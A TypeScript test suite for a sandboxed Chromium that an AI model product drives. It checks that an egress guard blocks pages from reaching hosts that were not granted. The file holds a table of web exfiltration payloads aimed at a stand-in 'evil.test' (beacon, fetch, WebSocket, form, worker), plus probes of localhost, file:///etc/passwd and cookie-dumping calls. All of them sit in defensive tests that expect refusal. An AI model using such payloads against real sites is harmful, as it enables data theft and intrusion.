/** A real Chromium in a real bubblewrap, driven as OpenClaw drives it. */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { promisify } from "node:util";
import { type Browser as Client, chromium, type Page } from "playwright-core";
import { WebSocket } from "ws";
import { createBrowser } from "./browser.ts";
import { findChromium } from "./find-chromium.ts";
import { testCertificates } from "./testing/certificates.ts";
import { exitStandIn } from "./testing/exit-standin.ts";
import {
  commandOf,
  isOwnConnection,
  isThere,
  listeningPorts,
  networkDevices,
  networkOf,
  treeBelow,
} from "./testing/processes.ts";
import { openWebStandIn, type WebPage } from "./testing/web-standin.ts";

const found = findChromium(process.platform);
const skip = found.state === "missing" ? `${found.message} ${found.next}` : false;

/** What a page does to reach another server, by its name here. */
const attacks: Readonly<Record<string, (to: string) => WebPage>> = {
  redirect: (to) => ({ status: 302, headers: { location: `http://${to}/hit` } }),
  "redirect by script": (to) => script(`location.href = "http://${to}/hit"`),
  "meta refresh": (to) => ({ body: `<meta http-equiv="refresh" content="0;url=http://${to}/hit">` }),
  form: (to) => ({
    body: `<form method="post" action="http://${to}/hit"></form><script>document.forms[0].submit()</script>`,
  }),
  image: (to) => ({ body: `<img src="http://${to}/hit">` }),
  script: (to) => ({ body: `<script src="http://${to}/hit"></script>` }),
  "style sheet": (to) => ({ body: `<link rel="stylesheet" href="http://${to}/hit">` }),
  font: (to) => ({
    body: `<style>@font-face{font-family:x;src:url(http://${to}/hit)}p{font-family:x}</style><p>x`,
  }),
  frame: (to) => ({ body: `<iframe src="http://${to}/hit"></iframe>` }),
  video: (to) => ({ body: `<video preload="auto" src="http://${to}/hit"></video>` }),
  fetch: (to) => script(`fetch("http://${to}/hit", { mode: "no-cors" }).catch(() => {})`),
  beacon: (to) => script(`navigator.sendBeacon("http://${to}/hit", "secret")`),
  "event source": (to) => script(`new EventSource("http://${to}/hit")`),
  WebSocket: (to) => script(`new WebSocket("ws://${to}/hit")`),
  "fetch of a worker": (to) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(['fetch("http://${to}/hit", { mode: "no-cors" }).catch(() => {})'])))`,
    ),
  "secure fetch": (to) => script(`fetch("https://${to}/hit", { mode: "no-cors" }).catch(() => {})`),
  "secure WebSocket": (to) => script(`new WebSocket("wss://${to}/hit")`),
};

function script(text: string): WebPage {
  return { body: `<script>${text}</script>` };
}

function pageAt({ pathname, searchParams }: URL): WebPage | undefined {
  const [, kind, name = ""] = pathname.split("/").map(decodeURIComponent);
  switch (kind) {
    case "":
      return {
        body: `<title>A page</title><button onclick="document.title = 'clicked'">Go</button><input aria-label="Name">`,
      };
    case "attack":
      return attacks[name]?.(searchParams.get("to") ?? "");
    case "cookie":
      return { headers: { "set-cookie": "session=of-this-site; HttpOnly" }, body: "<title>Cookie</title>" };
    case "download":
      return { headers: { "content-disposition": "attachment; filename=brought.txt" }, body: "brought in" };
    case "worker.js":
      return {
        headers: { "content-type": "text/javascript" },
        body: `onmessage = ({ data, ports }) => fetch(data, { mode: "no-cors" }).then(() => ports[0].postMessage("reached"), () => ports[0].postMessage("not reached"));`,
      };
    case "hit":
      return { body: "hit" };
    default:
      return undefined;
  }
}

const granted = ["granted.test", "friend.test", "secure.test"] as const;
const root = mkdtempSync(join(tmpdir(), "sc-browser-"));
const profileFolder = join(root, "profile");
const house = skip === false ? await open() : null;

async function open() {
  const hosts = [...granted, "evil.test"] as const;
  const certificate = await testCertificates(hosts);
  const web = await openWebStandIn(certificate, pageAt);
  const asked: string[] = [];
  const browser = await createBrowser({
    profileFolder,
    runFolder: join(root, "run"),
    gatePorts: [],
    find: () => findChromium(process.platform),
    openExit: exitStandIn(
      new Map(
        hosts.flatMap((host): [string, number][] => [
          [`${host}:80`, web.port],
          [`${host}:443`, web.securePort],
        ]),
      ),
    ),
    objection(host, port) {
      asked.push(`${host}:${port}`);
      const may = (granted as readonly string[]).includes(host) && [80, 443].includes(port);
      return may ? null : "it is not granted.";
    },
    isOpenClaw: isOwnConnection,
    authorities: [certificate.authority],
    clock: { now: () => Date.now() },
    log: { info() {}, warn() {}, error() {} },
  });
  return { web, asked, browser, address: `http://127.0.0.1:${browser.gatePort}` };
}

after(async () => {
  await house?.browser.close();
  house?.web.close();
  rmSync(root, { recursive: true, force: true });
});

function use(): NonNullable<typeof house> {
  assert.ok(house !== null);
  return house;
}

/** A page of a client of its own, which is gone afterwards. */
async function withPage(work: (page: Page, client: Client) => Promise<void>): Promise<void> {
  const client = await chromium.connectOverCDP(use().address);
  try {
    const page = await client.contexts()[0]!.newPage();
    await work(page, client);
    await page.close();
  } finally {
    await client.close();
  }
}

async function until(holds: () => boolean, what: string): Promise<void> {
  for (let tries = 0; !holds(); tries += 1) {
    assert.ok(tries < 1500, `it never came: ${what}`);
    await sleep(20);
  }
}

test("a granted page is opened, read, clicked and typed into", { skip }, async () => {
  const { browser } = use();
  await withPage(async (page, client) => {
    await page.goto("http://granted.test/");
    await page.getByRole("button", { name: "Go" }).click();
    await page.getByLabel("Name").fill("Ada");
    assert.equal(await page.title(), "clicked");
    assert.match(await page.locator("body").ariaSnapshot(), /button "Go"[^]*textbox "Name": Ada/);
    assert.ok((await page.screenshot()).length > 1000);
    assert.equal(browser.originOf(null), "http://granted.test");
    const tab = browser.tabs().find(({ url }) => url === "http://granted.test/");
    assert.equal(browser.originOf(tab?.id ?? ""), "http://granted.test");
    await page.goto("https://secure.test/");
    assert.equal(await page.title(), "A page");
    assert.equal(browser.originOf(tab?.id ?? ""), "https://secure.test");
    assert.match(client.version(), /^\d+\./);
  });
});

test("tabs are listed, opened, activated and closed as at a debugging port", { skip }, async () => {
  const { address, browser } = use();
  const json = async (path: string, method = "GET") =>
    (await (await fetch(`${address}${path}`, { method })).json()) as Record<string, string>;
  assert.match((await json("/json/version/"))["webSocketDebuggerUrl"] ?? "", /\/devtools\/browser\/[\w-]+$/);
  const tab = await json(`/json/new?${encodeURIComponent("http://granted.test/")}`, "PUT");
  await until(() => browser.originOf(tab["id"] ?? "") === "http://granted.test", "the new page");
  const socket = new WebSocket(tab["webSocketDebuggerUrl"] ?? "");
  await once(socket, "open");
  socket.send(JSON.stringify({ id: 5, method: "Page.getFrameTree" }));
  const [answer] = (await once(socket, "message")) as [Buffer];
  assert.match(answer.toString(), /^\{"id":5,"result":\{"frameTree".*"url":"http:\/\/granted\.test\/"/);
  for (const path of ["/json", "/json/list"])
    assert.ok(((await json(path)) as unknown as { id: string }[]).some(({ id }) => id === tab["id"]));
  assert.equal((await fetch(`${address}/json/activate/${tab["id"]}`)).status, 200);
  assert.equal((await fetch(`${address}/json/close/${tab["id"]}`)).status, 200);
  await once(socket, "close");
  await until(() => !browser.tabs().some(({ id }) => id === tab["id"]), "the end of the page");
  for (const [path, method, status] of [
    ["/json/new?http%3A%2F%2Fevil.test%2F", "PUT", 403],
    ["/json/new?file%3A%2F%2F%2Fetc%2Fpasswd", "PUT", 403],
    ["/json/new?%E0%A4%A", "PUT", 400],
    ["/json/new?http%3A%2F%2Fgranted.test%2F", "GET", 405],
    ["/json/close/none", "GET", 404],
    ["/json/protocol", "GET", 405],
    ["/devtools/inspector.html", "GET", 404],
  ] as const)
    assert.equal((await fetch(`${address}${path}`, { method })).status, status, path);
});

test("nothing of a page gets to a server that was not granted, in any way", { skip }, async (t) => {
  const { web, asked, browser } = use();
  await withPage(async (_, client) => {
    for (const name of Object.keys(attacks))
      await t.test(name, async () => {
        const since = Date.now();
        const page = await client.contexts()[0]!.newPage();
        const from = `http://granted.test/attack/${encodeURIComponent(name)}`;
        // First to a server that was granted: the page really does it.
        web.arrived.length = 0;
        await page.goto(`${from}?to=friend.test`).catch(() => undefined);
        await until(() => web.arrived.includes("friend.test /hit"), "what is granted");
        asked.length = 0;
        await page.goto(`${from}?to=evil.test`).catch(() => undefined);
        await until(
          () => asked.some((one) => one.startsWith("evil.test:")),
          "the question for the other one",
        );
        await page.close();
        assert.ok(
          browser.refusedSince(since).some((one) => /did not let the browser reach evil\.test/.test(one)),
        );
        assert.deepEqual(
          web.arrived.filter((line) => line.startsWith("evil.test")),
          [],
        );
      });
  });
});

test("granted pages over TLS are held by the same exit, their service workers too", { skip }, async () => {
  const { web, asked } = use();
  await withPage(async (page) => {
    await page.goto("https://secure.test/");
    const fetched = (to: string) =>
      page.evaluate(
        (address) =>
          fetch(address, { mode: "no-cors" }).then(
            () => "reached",
            () => "not reached",
          ),
        to,
      );
    assert.equal(await fetched("https://friend.test/hit"), "reached");
    assert.equal(await fetched("https://evil.test/hit"), "not reached");
    const byWorker = (to: string) =>
      page.evaluate(async (address) => {
        await navigator.serviceWorker.register("/worker.js");
        const { active } = await navigator.serviceWorker.ready;
        const { port1, port2 } = new MessageChannel();
        return await new Promise<unknown>((resolve) => {
          port1.addEventListener("message", ({ data }) => resolve(data));
          port1.start();
          active?.postMessage(address, [port2]);
        });
      }, to);
    assert.equal(await byWorker("https://friend.test/hit"), "reached");
    assert.equal(await byWorker("https://evil.test/hit"), "not reached");
    assert.ok(asked.includes("evil.test:443"));
    await page.evaluate(async () => {
      for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
    });
  });
  assert.deepEqual(
    web.arrived.filter((line) => line.startsWith("evil.test")),
    [],
  );
});

test("this computer is not there for a page", { skip }, async () => {
  const { browser } = use();
  const arrived: string[] = [];
  const traps = ["127.0.0.1", "::1"].map((host) =>
    createServer((request, response) => {
      arrived.push(`${request.headers.host}${request.url}`);
      response.end();
    }).listen(0, host),
  );
  await Promise.all(traps.map((trap) => once(trap, "listening")));
  const [four = 0, six = 0] = traps.map((trap) => (trap.address() as AddressInfo).port);
  const own = Object.values(networkInterfaces()).flatMap((all) =>
    (all ?? []).flatMap(({ address, family, internal }) => (internal || family !== "IPv4" ? [] : [address])),
  );
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    for (const host of [
      `127.0.0.1:${four}`,
      `localhost:${four}`,
      `127.1:${four}`,
      `0.0.0.0:${four}`,
      `[::1]:${six}`,
      `[::ffff:127.0.0.1]:${four}`,
      `a.localhost:${four}`,
      `127.0.0.1:${browser.gatePort}`,
      `localhost:${browser.gatePort}`,
      "127.0.0.1:3128",
      ...own.map((address) => `${address}:${four}`),
    ]) {
      const answer = await page.evaluate(
        (address) =>
          fetch(address)
            .then((response) => response.text())
            .catch(() => "no answer"),
        `http://${host}/json/version`,
      );
      // The exit refuses in words; a browser may have refused before.
      assert.match(answer, /^(?:no answer|SmartClaw's Guardian did not let this through)/, host);
      assert.match(
        await page.goto(`http://${host}/`).then(String, (error: Error) => error.message),
        /SmartClaw's Guardian did not let this through/,
        host,
      );
    }
  });
  for (const trap of traps) trap.close();
  assert.deepEqual(arrived, []);
});

test("WebRTC sends nothing and tells no address", { skip }, async () => {
  const trap = createSocket("udp4");
  const arrived: Buffer[] = [];
  trap.on("message", (message) => arrived.push(message));
  trap.bind(0);
  await once(trap, "listening");
  const { port } = trap.address();
  const hosts = ["127.0.0.1", ...Object.values(networkInterfaces()).flatMap((all) => all ?? [])]
    .map((one) => (typeof one === "string" ? one : one.family === "IPv4" ? one.address : ""))
    .filter((host) => host !== "");
  await withPage(async (page) => {
    await page.goto("https://secure.test/");
    await page.evaluate(
      async (urls) => {
        const found: string[] = [];
        Object.assign(globalThis, { found });
        const gather = async (iceServers: RTCIceServer[]): Promise<void> => {
          const peer = new RTCPeerConnection({ iceServers });
          peer.addEventListener("icecandidate", ({ candidate }) => found.push(candidate?.candidate ?? ""));
          peer.createDataChannel("x");
          await peer.setLocalDescription(await peer.createOffer());
        };
        await gather([{ urls }]);
        await gather([{ urls: "turn:evil.test:3478?transport=tcp", username: "a", credential: "b" }]);
      },
      hosts.map((host) => `stun:${host}:${port}`),
    );
    // Without a network the first one looks for it without end; the relay over TCP is asked for, and refused.
    await until(() => use().asked.includes("evil.test:3478"), "the question for the relay");
    const candidates = await page.evaluate(() => (globalThis as unknown as { found: string[] }).found);
    assert.deepEqual(
      candidates.filter((one) => one !== ""),
      [],
    );
  });
  trap.close();
  assert.deepEqual(arrived, []);
});

test(
  "the browser's network has nothing but the way to the exit, and nobody can find a debugging port",
  { skip },
  async () => {
    await withPage(async (page) => {
      await page.goto("http://granted.test/");
      const tree = treeBelow(process.pid).filter((pid) => networkOf(pid) !== networkOf("self"));
      assert.ok(tree.some((pid) => commandOf(pid).includes("--type=renderer")));
      for (const pid of tree) {
        assert.deepEqual(networkDevices(pid), ["lo"]);
        for (const port of listeningPorts(pid)) assert.equal(port, 3128);
      }
      const outside = treeBelow(process.pid).filter((pid) => !tree.includes(pid));
      // Bubblewrap's own first process, which has no socket at all.
      for (const pid of outside) assert.match(commandOf(pid), /^\/usr\/bin\/bwrap /);
      for (const pid of [...tree, ...outside]) {
        assert.doesNotMatch(commandOf(pid), /--no-sandbox|--remote-debugging-port/);
        const { Seccomp = "", Uid = "" } = Object.fromEntries(
          readFileSync(`/proc/${pid}/status`, "utf8")
            .split("\n")
            .map((line) => line.split(":\t", 2)),
        ) as Record<string, string>;
        if (commandOf(pid).includes("--type=renderer")) assert.equal(Seccomp, "2", Uid);
      }
    });
  },
);

test("files, the browser's own pages and made-up documents are not opened", { skip }, async () => {
  await withPage(async (page) => {
    for (const address of [
      "file:///etc/passwd",
      "file:///home/browser/chromium/Local%20State",
      "chrome://settings",
      "chrome://version",
      "devtools://devtools/bundled/inspector.html",
      "view-source:http://granted.test/",
      "data:text/html,<h1>made up</h1>",
      "javascript:alert(1)",
    ]) {
      await page.goto("http://granted.test/");
      await assert.rejects(page.goto(address), /SmartClaw's Guardian did not let this through/, address);
      // Chromium says nothing of this to the page; where it is afterwards does.
      await page.evaluate(
        (to: string) => {
          location.href = to;
          globalThis.open(to);
        },
        address.replace("javascript:alert(1)", "view-source:file:///etc/passwd"),
      );
      assert.equal(await page.title(), "A page");
    }
    const tabs = use().browser.tabs();
    assert.ok(
      tabs.every(({ url }) => /^(?:about:blank|http:\/\/granted\.test\/|)/.test(url)),
      JSON.stringify(tabs),
    );
  });
  // A window that never got anywhere is in nobody's way.
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    assert.equal(await page.title(), "A page");
  });
});

test("nothing is downloaded and no file is given to a page", { skip }, async () => {
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    await assert.rejects(page.goto("http://granted.test/download"));
    await page.setContent(`<a href="/download" download>x</a><input type="file">`);
    await page.getByText("x").click();
    const session = await page.context().newCDPSession(page);
    const { result } = await session.send("Runtime.evaluate", {
      expression: "document.querySelector('input')",
    });
    const { objectId } = result;
    assert.ok(objectId !== undefined);
    await assert.rejects(
      session.send("DOM.setFileInputFiles", { files: ["/home/browser/chromium/Local State"], objectId }),
      /Guardian did not let this through/,
    );
  });
  const files = readdirSync(root, { recursive: true, encoding: "utf8" });
  assert.deepEqual(
    files.filter((file) => /brought|\.crdownload/.test(file)),
    [],
  );
  assert.equal(statSync(profileFolder).mode & 0o777, 0o700);
});

test(
  "cookies are not read over the protocol, and what OpenClaw does not need is refused",
  { skip },
  async () => {
    await withPage(async (page, client) => {
      await page.goto("http://granted.test/cookie");
      await assert.rejects(page.context().cookies(), /Guardian did not let this through/);
      await assert.rejects(
        client.newContext({ proxy: { server: "http://127.0.0.1:1" } }),
        /Guardian did not let this through/,
      );
      const request = page.waitForRequest("http://granted.test/");
      await page.goto("http://granted.test/");
      assert.doesNotMatch(JSON.stringify(await (await request).allHeaders()), /of-this-site/);
      const session = await page.context().newCDPSession(page);
      for (const method of [
        "Network.getAllCookies",
        "Storage.getCookies",
        "SystemInfo.getInfo",
        "Target.exposeDevToolsProtocol",
        "Browser.crash",
      ] as const)
        await assert.rejects(
          (session as unknown as { send(method: string): Promise<unknown> }).send(method),
          /Guardian did not let this through/,
          method,
        );
    });
  },
);

test("another program and a page of another browser are turned away", { skip }, async () => {
  const { address, browser } = use();
  const run = promisify(execFile);
  const { webSocketDebuggerUrl } = (await (await fetch(`${address}/json/version`)).json()) as {
    webSocketDebuggerUrl: string;
  };
  const text = `
    const [address, socket] = process.argv.slice(1);
    const answer = await fetch(address + "/json/version");
    console.log(answer.status, await answer.text());
    const made = await fetch(address + "/json/new?about:blank", { method: "PUT" });
    console.log(made.status);
    const one = new WebSocket(socket);
    one.onopen = () => console.log("let in");
    one.onerror = () => console.log("turned away");`;
  const { stdout } = await run(process.execPath, [
    "--input-type=module",
    "-e",
    text,
    address,
    webSocketDebuggerUrl,
  ]);
  assert.match(
    stdout,
    /^403 The assistant's browser is for SmartClaw's own OpenClaw only\.\s+403\s+turned away/,
  );
  for (const headers of [
    { origin: "http://granted.test" },
    { origin: "null" },
    { host: `localhost:${browser.gatePort}` },
    { host: "evil.test" },
  ]) {
    const socket = new WebSocket(webSocketDebuggerUrl, { headers });
    const [error] = (await once(socket, "error")) as [Error];
    assert.match(error.message, /403/);
  }
  for (const path of ["/devtools/browser/other", "/devtools/page/none", "/"]) {
    const socket = new WebSocket(`ws://127.0.0.1:${browser.gatePort}${path}`);
    const [error] = (await once(socket, "error")) as [Error];
    assert.match(error.message, /404/);
  }
});

test("the assistant sees in the page itself that it was refused", { skip }, async () => {
  await withPage(async (page) => {
    await page.goto("http://granted.test/attack/redirect?to=evil.test");
    assert.match(await page.locator("body").ariaSnapshot(), /SmartClaw's Guardian did not let this through/);
  });
});

test("all tabs are closed at once, and new ones can be opened", { skip }, async () => {
  const { browser } = use();
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    const closed = page.waitForEvent("close");
    await browser.closeTabs();
    await closed;
    await until(() => browser.tabs().length === 0, "the end of all tabs");
  });
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    assert.equal(browser.originOf(null), "http://granted.test");
  });
});

test("several clients share the browser, and one that goes disturbs no other", { skip }, async () => {
  await withPage(async (page) => {
    await page.goto("http://granted.test/");
    await withPage(async (other) => {
      await other.goto("https://secure.test/");
      assert.equal(await page.title(), "A page");
    });
    await page.getByRole("button").click();
    assert.equal(await page.title(), "clicked");
  });
});

test(
  "a browser that crashed or was stopped is gone as a whole, and the next use starts another",
  { skip },
  async () => {
    const { browser } = use();
    for (const end of [
      () => browser.stop(),
      () => {
        const main = treeBelow(process.pid).find(
          (pid) =>
            / --remote-debugging-pipe .* about:blank/.test(commandOf(pid)) &&
            /^\/(?:usr|opt)\/.*chrom[^ ]* /.test(commandOf(pid)) &&
            !commandOf(pid).includes("bwrap"),
        );
        process.kill(main ?? 0, "SIGKILL");
      },
    ]) {
      const client = await chromium.connectOverCDP(use().address);
      await (await client.contexts()[0]!.newPage()).goto("http://granted.test/");
      const tree = treeBelow(process.pid);
      assert.ok(tree.length > 5);
      const gone = new Promise((resolve) => client.once("disconnected", resolve));
      end();
      await gone;
      await until(() => !tree.some(isThere), "the end of every process");
      assert.deepEqual(browser.tabs(), []);
      assert.equal(browser.originOf(null), null);
      await withPage(async (page) => {
        await page.goto("http://granted.test/");
        assert.equal(await page.title(), "A page");
      });
    }
  },
);
